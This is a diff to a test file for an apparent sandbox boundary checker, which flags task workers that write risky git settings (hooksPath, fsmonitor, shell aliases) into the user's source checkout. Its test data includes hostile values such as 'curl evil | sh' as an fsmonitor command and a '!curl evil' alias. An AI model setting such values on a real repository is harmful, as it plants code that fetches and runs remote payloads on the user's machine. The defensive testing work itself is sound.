@@ -56,11 +56,17 @@ describe('boundary check: git config and hooks by content', () => {
     ['core.hooksPath', '/tmp/evil-hooks', 'core.hookspath'],
     ['core.fsmonitor', 'curl evil | sh', 'core.fsmonitor'],
     ['alias.st', '!curl evil', 'alias.st'],
-  ])('a worker setting %s from its worktree (shared .git/config) is a violation naming the key', async (key, value, shown) => {
+  ])('a worker setting %s in the repository by absolute path is a violation naming the key; in its own task repository it changes nothing of the user\'s', async (key, value, shown) => {
     h = makeHome();
-    const run = await simulateRun(h, await newExecuteTask(h), (dir) => {
+    const own = await simulateRun(h, await newExecuteTask(h), (dir) => {
       writeFileSync(join(dir, 'x.txt'), 'x\n');
       git(dir, 'config', key, value);
+    });
+    expect(own.changes.violations).toEqual([]);
+    expect(() => git(h.repo, 'config', '--local', '--get', key)).toThrow();
+    const run = await simulateRun(h, await newExecuteTask(h), (dir) => {
+      writeFileSync(join(dir, 'x.txt'), 'x\n');
+      git(h.repo, 'config', key, value);
     });
     expect(run.changes.ok).toBe(false);
     expect(run.changes.violations).toEqual([`${join(h.repo, '.git', 'config')} [${shown}] (written in the source checkout)`]);
